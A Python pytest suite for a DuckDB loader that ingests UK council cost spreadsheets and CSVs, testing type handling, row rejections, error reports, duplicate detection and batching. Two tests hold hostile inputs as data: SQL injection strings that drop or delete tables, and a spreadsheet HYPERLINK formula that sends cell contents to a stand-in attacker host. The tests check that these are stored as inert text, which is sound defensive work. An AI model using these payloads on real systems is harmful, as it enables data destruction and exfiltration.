"""Landing (costcalc.ingest.landing.load_file): real files -> a real DuckDB warehouse.

Each test writes a real .csv or .xlsx in tmp_path, loads it, and reads back
raw.<code>, raw.load_log, raw.rejected_rows and the error report beside the file.
"""

from __future__ import annotations

import csv
import datetime as dt
import json
from decimal import Decimal
from pathlib import Path

import duckdb
import openpyxl
import pytest

from costcalc.ingest.landing import error_report_path, load_file
from loader_helpers import allow_rejected_rows
from costcalc.schemas import load_schemas

H01A_HEAD = ["pin", "address1", "postcode", "ni", "firstname", "surname", "dob", "residents",
             "startdate", "enddate", "cost", "proptype"]


def good_h01a(**over) -> dict:
    row = {"pin": "P1", "address1": "1 High St", "postcode": "sw1a1aa", "ni": "ab 12 34 56 c",
           "firstname": "Ann", "surname": "Smith", "dob": "01/02/1980", "residents": "2",
           "startdate": "01/04/2024", "enddate": "", "cost": "£1,234.50", "proptype": "B&B"}
    row.update(over)
    return row


def write_csv(path: Path, header: list[str], rows: list, encoding="utf-8", above: list[list] = ()) -> Path:
    with open(path, "w", newline="", encoding=encoding) as fh:
        w = csv.writer(fh)
        for r in above:
            w.writerow(r)
        w.writerow(header)
        for r in rows:
            w.writerow([r.get(h, "") for h in header] if isinstance(r, dict) else r)
    return path


def query(wh: Path, sql: str, params=()):
    con = duckdb.connect(str(wh), read_only=True)
    try:
        return con.execute(sql, list(params)).fetchall()
    finally:
        con.close()


def report_rows(path: Path) -> list[dict]:
    """The error report's problem lines (after its summary line)."""
    with open(error_report_path(path), newline="", encoding="utf-8-sig") as fh:
        fh.readline()
        return list(csv.DictReader(fh))


def report_summary(path: Path) -> str:
    with open(error_report_path(path), newline="", encoding="utf-8-sig") as fh:
        return next(csv.reader(fh))[0]


@pytest.fixture
def wh(tmp_path) -> Path:
    return tmp_path / "wh" / "costcalc.duckdb"


# ------------------------------------------------------------------ happy path

def test_csv_lands_typed_normalised_rows_with_lineage(tmp_path, wh):
    p = write_csv(tmp_path / "ta.csv", H01A_HEAD, [good_h01a(), good_h01a(pin="P2", enddate="2024-06-30",
                                                                     cost="(12.00)", residents="")])
    r = load_file(wh, p)
    assert (r.status, r.schema_code, r.file_type) == ("loaded", "H01A", "temporary_accommodation")
    assert (r.rows_read, r.rows_accepted, r.rows_rejected) == (2, 2, 0)
    assert r.error_report_path is None and not error_report_path(p).exists()
    cols = [c[0] for c in query(wh, "select column_name from information_schema.columns where "
                                    "table_schema='raw' and table_name='h01a' order by ordinal_position")]
    assert cols == ["_load_id", "_source_file", "_source_row", "_loaded_at", "_extra",
                    *[c.name for c in load_schemas()["H01A"].columns]]
    rows = query(wh, "select _load_id, _source_file, _source_row, _extra, pin, postcode, ni, dob, residents, "
                     "startdate, enddate, cost, address4 from raw.h01a order by _source_row")
    assert rows == [
        (r.load_id, "ta.csv", 2, None, "P1", "SW1A 1AA", "AB123456C", dt.date(1980, 2, 1), 2,
         dt.date(2024, 4, 1), None, Decimal("1234.5000"), None),
        (r.load_id, "ta.csv", 3, None, "P2", "SW1A 1AA", "AB123456C", dt.date(1980, 2, 1), None,
         dt.date(2024, 4, 1), dt.date(2024, 6, 30), Decimal("-12.0000"), None),
    ]
    types = dict(query(wh, "select column_name, data_type from information_schema.columns "
                           "where table_schema='raw' and table_name='h01a'"))
    assert types["cost"] == "DECIMAL(18,4)" and types["dob"] == "DATE" and types["residents"] == "BIGINT"
    assert types["_loaded_at"] == "TIMESTAMP" and types["_source_row"] == "INTEGER"
    log = query(wh, "select load_id, source_file, length(sha256), schema_code, file_type, provider, extract_date, "
                    "rows_read, rows_accepted, rows_rejected, status from raw.load_log")
    assert log == [(r.load_id, "ta.csv", 64, "H01A", "temporary_accommodation", None, dt.date.today(),
                    2, 2, 0, "loaded")]
    # one timestamp for the whole load, the same in the data and the log
    assert query(wh, "select count(distinct _loaded_at) from raw.h01a")[0][0] == 1
    assert query(wh, "select count(*) from raw.h01a h join raw.load_log l on h._loaded_at = l.loaded_at")[0][0] == 2


@pytest.mark.parametrize("encoding", ["utf-8", "utf-8-sig", "cp1252"])
def test_csv_encodings_land_the_same_text(tmp_path, wh, encoding):
    p = write_csv(tmp_path / f"enc-{encoding}.csv", H01A_HEAD + ["Note"],
                  [good_h01a(surname="Brontë", address1="1 Rue de l'Église", cost="£10", Note="café")],
                  encoding=encoding)
    r = load_file(wh, p)
    assert r.status == "loaded", r.message
    assert query(wh, "select surname, address1, cost, _extra from raw.h01a") == [
        ("Brontë", "1 Rue de l'Église", Decimal("10.0000"), json.dumps({"Note": "café"}, ensure_ascii=False))]


def test_xlsx_with_title_rows_real_dates_and_cached_formulas(tmp_path, wh):
    wb = openpyxl.Workbook()
    ws = wb.active
    ws["A1"] = "Temporary accommodation placements"
    ws["A2"] = "Extracted 31/03/2024"
    ws.merge_cells("A1:D1")  # a merged title above the header is fine
    ws.append([])
    ws.append(["PIN", "Post Code", "Surname", "Date of Birth", "Start Date", "End Date", "Weekly Cost",
               "Property Type", "Residents"])
    ws.append(["P1", "M1 1AE", "Jones", dt.datetime(1975, 12, 25), dt.datetime(2024, 1, 31), None, 250.5, "Hostel", 3])
    ws.append([None] * 9)
    ws.append(["P2", "m11ae", "Khan", "25/12/1975", "20240201", "29/02/2024", "=I7*100", "B&B", 2])
    for ref in ("D5", "E5"):
        ws[ref].number_format = "dd/mm/yyyy"
    wb.save(tmp_path / "ta.xlsx")
    # openpyxl cannot compute formulas; store the value Excel would have cached
    import re
    import zipfile
    with zipfile.ZipFile(tmp_path / "ta.xlsx") as zf:
        parts = {n: zf.read(n) for n in zf.namelist()}
    xml = parts["xl/worksheets/sheet1.xml"].decode()
    xml, n = re.subn(r'(<c r="G7"[^>]*>)(<f>I7\*100</f>)<v\s*/>', r"\1\2<v>200</v>", xml)
    assert n == 1
    parts["xl/worksheets/sheet1.xml"] = xml.encode()
    with zipfile.ZipFile(tmp_path / "ta.xlsx", "w") as zf:
        for name, data in parts.items():
            zf.writestr(name, data)

    r = load_file(wh, tmp_path / "ta.xlsx")
    assert r.status == "loaded", r.message
    assert (r.rows_read, r.rows_accepted) == (2, 2)
    assert query(wh, "select _source_row, pin, postcode, dob, startdate, enddate, cost, residents "
                     "from raw.h01a order by 1") == [
        (5, "P1", "M1 1AE", dt.date(1975, 12, 25), dt.date(2024, 1, 31), None, Decimal("250.5000"), 3),
        (7, "P2", "M1 1AE", dt.date(1975, 12, 25), dt.date(2024, 2, 1), dt.date(2024, 2, 29), Decimal("200.0000"), 2),
    ]


def test_header_variants_and_aliases(tmp_path, wh):
    head = ["SURNAME", "date_of_birth", "Post_Code", "Start_Date", "PROPERTY TYPE", "Placement End", "Weekly_Cost"]
    p = write_csv(tmp_path / "v.csv", head,
                  [["Smith", "1/2/1980", "SW1A 1AA", "2024-01-01", "B&B", "2024-02-01", "100"]])
    r = load_file(wh, p)
    assert (r.status, r.schema_code) == ("loaded", "H01A")
    assert query(wh, "select surname, dob, enddate from raw.h01a") == [("Smith", dt.date(1980, 2, 1), dt.date(2024, 2, 1))]


@pytest.mark.parametrize("code", ["H01A", "ASC01", "RB01", "RB03", "TF01", "GS00"])
def test_each_schema_is_recognised_from_its_exact_column_names(tmp_path, wh, code):
    schema = load_schemas()[code]
    sample = {"text": "x", "postcode": "SW1A 1AA", "date": "01/01/2000", "money": "1", "integer": "1",
              "nhs_number": "9434765919", "ni_number": "AB123456C", "frequency": "Weekly"}
    head = [c.name for c in schema.columns]
    p = write_csv(tmp_path / f"{code}.csv", head, [[sample[c.type] for c in schema.columns]])
    r = load_file(wh, p)
    assert (r.status, r.schema_code, r.rows_accepted) == ("loaded", code, 1), r.message
    assert query(wh, f"select count(*) from raw.{code.lower()}")[0][0] == 1


def test_no_schema_fits_names_the_closest_and_its_missing_columns(tmp_path, wh):
    p = write_csv(tmp_path / "odd.csv", ["pin", "surname", "dob", "postcode", "cost"],
                  [["P1", "Smith", "01/01/1980", "SW1A 1AA", "1"]])
    r = load_file(wh, p)
    assert r.status == "rejected"
    assert ("odd.csv: the columns do not fit any data set we take; the closest is Temporary Accommodation "
            "(header row 1): missing 'Placement Start', 'Property Type'") in r.message
    assert query(wh, "select status, rows_read, message from raw.load_log") == [("rejected", 0, r.message)]
    assert query(wh, "select count(*) from raw.h01a")[0][0] == 0
    reason = r.message.split(": ", 1)[1]
    assert report_rows(p) == [{"row": "1", "column": "", "value": "", "reason": reason, "hint": ""}]
    assert report_summary(p) == f"The file was not loaded: {reason}. Fix this and send the whole file again."


def test_no_header_row_at_all(tmp_path, wh):
    p = write_csv(tmp_path / "none.csv", ["a", "b"], [["1", "2"]])
    r = load_file(wh, p)
    assert r.status == "rejected" and "no header row found in the first 20 rows" in r.message


def test_given_schema_that_does_not_fit(tmp_path, wh):
    p = write_csv(tmp_path / "ta.csv", H01A_HEAD, [good_h01a()])
    r = load_file(wh, p, schema="tf01")
    assert r.status == "rejected"
    # (surname is an alias of TF01's lastname, so only individualid is missing)
    assert "do not fit Troubled Families files: missing 'Individual ID'; not recognised: 'pin' (column A)" in r.message
    r2 = load_file(wh, p, schema="XX9")
    assert r2.status == "rejected" and "unknown schema 'XX9'" in r2.message


def test_extra_columns_and_cells_beyond_the_header_kept_in_extra(tmp_path, wh):
    p = tmp_path / "x.csv"
    p.write_text("surname,dob,postcode,startdate,proptype,Case Worker,,Notes,cost\n"
                 "Smith,01/01/1980,SW1A 1AA,01/01/2024,B&B,Jo,,hi,1\n"
                 "Jones,01/01/1981,SW1A 1AA,01/01/2024,B&B,,under,,2,spill\n", encoding="utf-8")
    r = load_file(wh, p)
    assert r.status == "loaded", r.message
    got = [json.loads(x[0]) for x in query(wh, "select _extra from raw.h01a order by _source_row")]
    # Named extra headers in every row; a blank header's column, like cells beyond the
    # last header, only where the row has something.
    assert got == [{"Case Worker": "Jo", "Notes": "hi"},
                   {"Case Worker": None, "column_7": "under", "Notes": None, "column_10": "spill"}]


def test_blank_rows_are_skipped_not_counted(tmp_path, wh):
    p = tmp_path / "b.csv"
    p.write_text("surname,dob,postcode,startdate,proptype,cost\n\n,,,,,\n  , ,\t,,,\n"
                 "Smith,01/01/1980,SW1A 1AA,01/01/2024,B&B,5\n,,,,,\n", encoding="utf-8")
    r = load_file(wh, p)
    assert (r.status, r.rows_read, r.rows_accepted, r.rows_rejected) == ("loaded", 1, 1, 0)
    assert query(wh, "select _source_row from raw.h01a") == [(5,)]


def test_null_tokens_in_typed_columns_are_blank(tmp_path, wh):
    p = write_csv(tmp_path / "n.csv", H01A_HEAD, [good_h01a(enddate="N/A", cost="NULL", ni="-", residents="unknown"),
                                                 good_h01a(pin="P2")])
    r = load_file(wh, p)
    assert r.rows_accepted == 2, r.errors
    assert query(wh, "select enddate, cost, ni, residents from raw.h01a order by _source_row")[0] == \
        (None, None, None, None)


# --------------------------------------------------------------------- rejections

ASC_HEAD = ["ascid", "postcode", "nhsno", "surname", "dob", "start", "end", "pricestart", "priceend", "cost",
            "frequency", "servicetype", "carepackagelineitemid"]


def asc(**over):
    row = {"ascid": "A1", "postcode": "LS1 4AP", "nhsno": "943 476 5919", "surname": "Patel", "dob": "1950-05-06",
           "start": "01/01/2024", "end": "31/03/2024", "pricestart": "01/01/2024", "priceend": "",
           "cost": "100", "frequency": "per week", "servicetype": "Home care", "carepackagelineitemid": "L1"}
    row.update(over)
    return row


def test_every_row_rejection_reason(tmp_path, wh, monkeypatch):
    allow_rejected_rows(monkeypatch, tmp_path)
    future = (dt.date.today() + dt.timedelta(days=30)).strftime("%d/%m/%Y")
    cases = [  # (row overrides, column, reason fragment)
        ({"surname": ""}, "surname", "'surname' is blank; it must be filled in"),
        ({"postcode": "N/A"}, "postcode", "'postcode' is blank; it must be filled in"),
        ({"dob": "12/31/1950"}, "dob", "not a real date (read as dd/mm/yyyy, UK order)"),
        ({"start": "1/1/24"}, "start", "two-digit year is ambiguous"),
        ({"start": "soon"}, "start", "not a date"),
        ({"cost": "12,34"}, "cost", "not an amount of money"),
        ({"postcode": "XYZ"}, "postcode", "not a UK postcode"),
        ({"nhsno": "9434765918"}, "nhsno", "not an NHS number (check digit wrong)"),
        ({"nhsno": "94347659"}, "nhsno", "not an NHS number (must be 10 digits)"),
        ({"start": "01/04/2024", "end": "01/03/2024"}, "start", "'start' is after 'end'"),
        ({"pricestart": "01/02/2024", "priceend": "31/01/2024"}, "pricestart",
         "'pricestart' is after 'priceend'"),
        ({"dob": future}, "dob", "date of birth is in the future"),
        ({"frequency": "Quarterly"}, "frequency", "unknown frequency 'Quarterly'"),
    ]
    rows = [asc(ascid="OK1")] + [asc(ascid=f"A{i}", **over) for i, (over, _, _) in enumerate(cases)] + \
           [asc(ascid="OK2", frequency="")]
    p = write_csv(tmp_path / "asc.csv", ASC_HEAD, rows)
    r = load_file(wh, p)
    assert (r.status, r.rows_read, r.rows_accepted, r.rows_rejected) == ("loaded", len(cases) + 2, 2, len(cases))
    got = query(wh, "select source_row, column_name, reason from raw.rejected_rows order by source_row")
    assert [(row, col) for row, col, _ in got] == [(3 + i, col) for i, (_, col, _) in enumerate(cases)]
    for (_, _, reason), (_, _, frag) in zip(got, cases):
        assert frag in reason
    # the default frequency applies to a blank cell; synonyms are canonicalised
    assert query(wh, "select ascid, frequency, nhsno from raw.asc01 order by 1") == [
        ("OK1", "Weekly", "9434765919"), ("OK2", "Weekly", "9434765919")]
    # the report beside the file keeps every value, for the provider
    rep = report_rows(p)
    assert len(rep) == len(cases)
    assert rep[2] == {"row": "5", "column": "dob", "value": "12/31/1950",
                      "reason": "not a real date (read as dd/mm/yyyy, UK order)",
                      "hint": "dates are day/month/year: did you mean 31/12/1950?"}
    assert report_summary(p) == f"{len(cases)} of {len(cases) + 2} rows not loaded; fix these rows and send the whole file again."
    assert r.error_report_path == error_report_path(p)


def test_a_row_with_several_bad_cells_is_one_rejected_row_with_each_cell_listed(tmp_path, wh, monkeypatch):
    allow_rejected_rows(monkeypatch, tmp_path)
    p = write_csv(tmp_path / "ta.csv", H01A_HEAD, [good_h01a(postcode="nope", ni="X1", dob="31/31/1980")])
    r = load_file(wh, p)
    assert (r.rows_read, r.rows_rejected) == (1, 1)
    assert sorted(c for _, c in query(wh, "select source_row, column_name from raw.rejected_rows "
                                          "where source_row is not null")) == ["dob", "ni", "postcode"]


def test_gs00_without_a_frequency_column_is_refused(tmp_path, wh):
    head = ["extref", "surname", "dob", "postcode", "startdate", "servicedesc", "cost"]
    p = write_csv(tmp_path / "gs.csv", head, [["E1", "Li", "01/01/1990", "E1 6AN", "01/01/2024", "Taxi", "5"]])
    r = load_file(wh, p)
    assert (r.status, r.schema_code, r.file_type) == ("rejected", "GS00", "general_service")
    assert "no frequency column: expected 'Cost Frequency'" in r.message
    assert query(wh, "select count(*) from raw.gs00") == [(0,)]


def test_rb01_snapshot_is_not_paired_with_claim_start_and_sets_the_extract_date(tmp_path, wh):
    schema = load_schemas()["RB01"]
    head = [c.name for c in schema.columns]
    base = {"housing_benefit_claim_reference_number": "HB1", "claimants_postcode": "B1 1AA",
            "claimants_surname": "Ng", "claimants_date_of_birth": "01/01/1970",
            "hb_claim_entitlement_start_date": "01/06/2024", "snapshot_date": "31/01/2024",
            "weekly_housing_benefit_entitlement": "£95.10"}
    rows = [base, dict(base, housing_benefit_claim_reference_number="HB2", snapshot_date="29/02/2024")]
    p = write_csv(tmp_path / "rb.csv", head, rows)
    r = load_file(wh, p, extract_date="2024-01-01")
    assert (r.status, r.rows_accepted) == ("loaded", 2)  # start after snapshot is not an error
    assert query(wh, "select extract_date from raw.load_log") == [(dt.date(2024, 2, 29),)]


def test_extract_date_given_at_load_time(tmp_path, wh):
    p = write_csv(tmp_path / "ta.csv", H01A_HEAD, [good_h01a()])
    load_file(wh, p, extract_date=dt.date(2024, 3, 31))
    assert query(wh, "select extract_date from raw.load_log") == [(dt.date(2024, 3, 31),)]


def test_strict_rejects_the_whole_file(tmp_path, wh):
    rows = [good_h01a(pin=f"P{i}") for i in range(5)] + [good_h01a(pin="BAD", postcode="??")]
    p = write_csv(tmp_path / "ta.csv", H01A_HEAD, rows)
    r = load_file(wh, p, strict=True)
    assert (r.status, r.rows_read, r.rows_accepted, r.rows_rejected) == ("rejected", 6, 0, 1)
    assert query(wh, "select count(*) from raw.h01a")[0][0] == 0
    assert query(wh, "select status, rows_accepted from raw.load_log") == [("rejected", 0)]
    assert [x["column"] for x in report_rows(p)] == ["postcode"]
    # without --strict the same file loads its good rows
    r2 = load_file(wh, p)
    assert (r2.status, r2.rows_accepted) == ("loaded", 5)


def test_strict_rejection_after_earlier_batches_were_inserted(tmp_path, wh, monkeypatch):
    monkeypatch.setattr("costcalc.ingest.landing.BATCH_ROWS", 3)
    rows = [good_h01a(pin=f"P{i}") for i in range(10)] + [good_h01a(pin="BAD", dob="")]
    p = write_csv(tmp_path / "ta.csv", H01A_HEAD, rows)
    r = load_file(wh, p, strict=True)
    assert r.status == "rejected"
    assert query(wh, "select count(*) from raw.h01a")[0][0] == 0


def test_same_file_twice_changes_nothing(tmp_path, wh):
    p = write_csv(tmp_path / "ta.csv", H01A_HEAD, [good_h01a(), good_h01a(postcode="bad")])
    first = load_file(wh, p)
    snapshot = [query(wh, f"select * from raw.{t} order by all") for t in ("h01a", "load_log", "rejected_rows")]
    again = load_file(wh, p)
    assert again.status == "unchanged" and again.load_id == first.load_id
    assert (again.schema_code, again.file_type, again.rows_read) == ("H01A", "temporary_accommodation", 0)
    assert "already loaded" in again.message
    assert [query(wh, f"select * from raw.{t} order by all") for t in ("h01a", "load_log", "rejected_rows")] == snapshot
    # the same bytes under another name are the same file
    copy = tmp_path / "copy.csv"
    copy.write_bytes(p.read_bytes())
    assert load_file(wh, copy).status == "unchanged"
    # a corrected file is a new load, and its stale error report goes
    assert error_report_path(p).exists()
    write_csv(p, H01A_HEAD, [good_h01a(), good_h01a(postcode="M1 1AE")])
    fixed = load_file(wh, p)
    assert (fixed.status, fixed.rows_accepted) == ("loaded", 2)
    assert not error_report_path(p).exists()


def test_hostile_values_are_stored_as_plain_text(tmp_path, wh):
    evil = "Robert'); DROP TABLE raw.load_log; --"
    formula = '=HYPERLINK("http://evil.example/?x="&A1,"click")'
    p = write_csv(tmp_path / "ta.csv", H01A_HEAD + ["Comment"],
                  [good_h01a(surname=evil, address1=formula, Comment="'; DELETE FROM raw.h01a; --"),
                   good_h01a(surname="x", postcode=formula)])
    r = load_file(wh, p)
    assert (r.rows_accepted, r.rows_rejected) == (1, 1)
    assert query(wh, "select surname, address1, _extra from raw.h01a") == [
        (evil, formula, json.dumps({"Comment": "'; DELETE FROM raw.h01a; --"}))]
    assert query(wh, "select count(*) from raw.load_log")[0][0] == 1
    assert query(wh, "select value from raw.rejected_rows") == [(formula,)]
    # the provider's report must not turn the value into a live formula in Excel
    assert [x["value"] for x in report_rows(p) if x["row"] == "3"] == ["'" + formula]


def test_hostile_header_names_are_not_sql(tmp_path, wh):
    p = write_csv(tmp_path / "ta.csv", H01A_HEAD + ['x"); DROP TABLE raw.h01a; --'], [good_h01a()])
    r = load_file(wh, p)
    assert r.status == "loaded"
    assert json.loads(query(wh, "select _extra from raw.h01a")[0][0]) == {'x"); DROP TABLE raw.h01a; --': None}


# ------------------------------------------------------------ file types, providers

def test_file_type_and_provider_rules(tmp_path, wh):
    p = write_csv(tmp_path / "ta.csv", H01A_HEAD, [good_h01a()])
    r = load_file(wh, p, provider="adult_social_care")
    assert r.status == "rejected"
    assert ("provider 'adult_social_care' may not send Temporary Accommodation files "
            "(allowed: housing_needs)") in r.message
    assert query(wh, "select status, provider, file_type from raw.load_log") == [
        ("rejected", "adult_social_care", "temporary_accommodation")]
    r = load_file(wh, p, file_type="nope")
    assert r.status == "rejected" and "unknown file type 'nope'" in r.message
    r = load_file(wh, p, file_type="adult_social_care")
    assert r.status == "rejected" and "do not fit Adult Social Care files" in r.message
    r = load_file(wh, p, file_type="general_service", schema="H01A")
    assert r.status == "rejected" and "file type general_service uses schema GS00, not H01A" in r.message
    r = load_file(wh, p, provider="housing_needs")
    assert (r.status, r.file_type) == ("loaded", "temporary_accommodation")
    assert query(wh, "select provider from raw.load_log where status='loaded'") == [("housing_needs",)]


def test_general_service_accepts_any_provider(tmp_path, wh):
    head = ["extref", "surname", "dob", "postcode", "startdate", "servicedesc", "cost", "frequency"]
    p = write_csv(tmp_path / "gs.csv", head,
                  [["E1", "Li", "01/01/1990", "E1 6AN", "01/01/2024", "Taxi", "5", "One-off"]])
    r = load_file(wh, p, file_type="general_service", provider="anyone_at_all")
    assert (r.status, r.file_type) == ("loaded", "general_service")


# ------------------------------------------------------------ unreadable files

def test_unreadable_files_are_rejected_with_a_log_row(tmp_path, wh):
    pdf = tmp_path / "scan.xlsx"
    pdf.write_bytes(b"%PDF-1.4\n...")
    r = load_file(wh, pdf)
    assert r.status == "rejected" and r.message.startswith("scan.xlsx: this is a PDF document")
    empty = tmp_path / "empty.csv"
    empty.write_bytes(b"")
    assert "empty.csv: the file is empty" in load_file(wh, empty).message
    blank = tmp_path / "blank.csv"
    blank.write_text("\n,,,\n\n")
    assert "blank.csv: the file has no rows" in load_file(wh, blank).message
    assert [s for (s,) in query(wh, "select status from raw.load_log")] == ["rejected"] * 3
    missing = load_file(wh, tmp_path / "nowhere.csv")
    assert missing.status == "rejected" and "file not found" in missing.message


def test_merged_cells_in_data_rows_reject_the_file(tmp_path, wh):
    wb = openpyxl.Workbook()
    ws = wb.active
    ws.append(["surname", "dob", "postcode", "startdate", "proptype", "cost"])
    ws.append(["Smith", "01/01/1980", "SW1A 1AA", "01/01/2024", "B&B", 1])
    ws.append(["Jones", "01/01/1980", "SW1A 1AA", "01/01/2024", "B&B", 2])
    ws.merge_cells("E2:E3")
    wb.save(tmp_path / "merged.xlsx")
    r = load_file(wh, tmp_path / "merged.xlsx")
    assert r.status == "rejected"
    assert "merged.xlsx: the sheet has merged cells in the header or data rows (E2:E3)" in r.message
    assert query(wh, "select count(*) from raw.h01a")[0][0] == 0


def test_a_file_with_only_a_header_is_rejected(tmp_path, wh):
    """Issue 15 item 2: a file that loads no row is not 'loaded'."""
    p = write_csv(tmp_path / "ta.csv", H01A_HEAD, [])
    r = load_file(wh, p)
    assert (r.status, r.rows_read) == ("rejected", 0)
    assert "no data rows" in r.message
    assert query(wh, "select status, rows_accepted from raw.load_log") == [("rejected", 0)]


def test_big_file_in_many_batches_keeps_row_numbers(tmp_path, wh, monkeypatch):
    monkeypatch.setattr("costcalc.ingest.landing.BATCH_ROWS", 1000)
    rows = [good_h01a(pin=f"P{i}", postcode="bad" if i % 997 == 0 else "SW1A 1AA") for i in range(5000)]
    p = write_csv(tmp_path / "ta.csv", H01A_HEAD, rows, above=[["title"], []])
    r = load_file(wh, p)
    bad = [i for i in range(5000) if i % 997 == 0]
    assert (r.rows_read, r.rows_rejected) == (5000, len(bad))
    assert query(wh, "select count(*), min(_source_row), max(_source_row) from raw.h01a") == [(5000 - len(bad), 5, 5003)]
    assert [x for (x,) in query(wh, "select source_row from raw.rejected_rows order by 1")] == [i + 4 for i in bad]
    assert query(wh, "select count(*) from raw.h01a where _source_row - 4 <> cast(substr(pin, 2) as int)")[0][0] == 0


def test_semicolon_csv_gets_a_hint(tmp_path, wh):
    p = tmp_path / "semi.csv"
    p.write_text("surname;dob;postcode;startdate;proptype\nSmith;01/01/1980;SW1A 1AA;01/01/2024;B&B\n")
    r = load_file(wh, p)
    assert r.status == "rejected" and "separated by semicolons or tabs" in r.message


def test_streamed_xlsx_loads_and_a_late_merged_range_rejects(tmp_path, wh, monkeypatch):
    monkeypatch.setattr("costcalc.ingest.readers.xlsx_stream.CHUNK_BYTES", 4_000)
    monkeypatch.setattr("costcalc.ingest.landing.BATCH_ROWS", 70)

    def book(name, merge=None):
        wb = openpyxl.Workbook()
        ws = wb.active
        ws.append(["Placements"])
        ws.append(["surname", "dob", "postcode", "startdate", "proptype", "cost"])
        for i in range(300):
            ws.append([f"N{i}", dt.datetime(1960, 1, 1) + dt.timedelta(days=i), "SW1A 1AA",
                       dt.datetime(2024, 1, 1), "B&B" if i != 150 else None, 100])
        if merge:
            ws.merge_cells(merge)
        wb.save(tmp_path / name)
        return tmp_path / name

    r = load_file(wh, book("ok.xlsx"))
    assert (r.status, r.rows_read, r.rows_accepted, r.rows_rejected) == ("loaded", 300, 299, 1)
    assert query(wh, "select source_row, column_name from raw.rejected_rows") == [(153, "proptype")]
    assert query(wh, "select min(_source_row), max(_source_row), min(dob) from raw.h01a") == [
        (3, 302, dt.date(1960, 1, 1))]
    r = load_file(wh, book("merged.xlsx", merge="A290:B290"))
    assert r.status == "rejected" and "(A290:B290)" in r.message
    assert query(wh, "select count(*) from raw.h01a where _source_file = 'merged.xlsx'") == [(0,)]
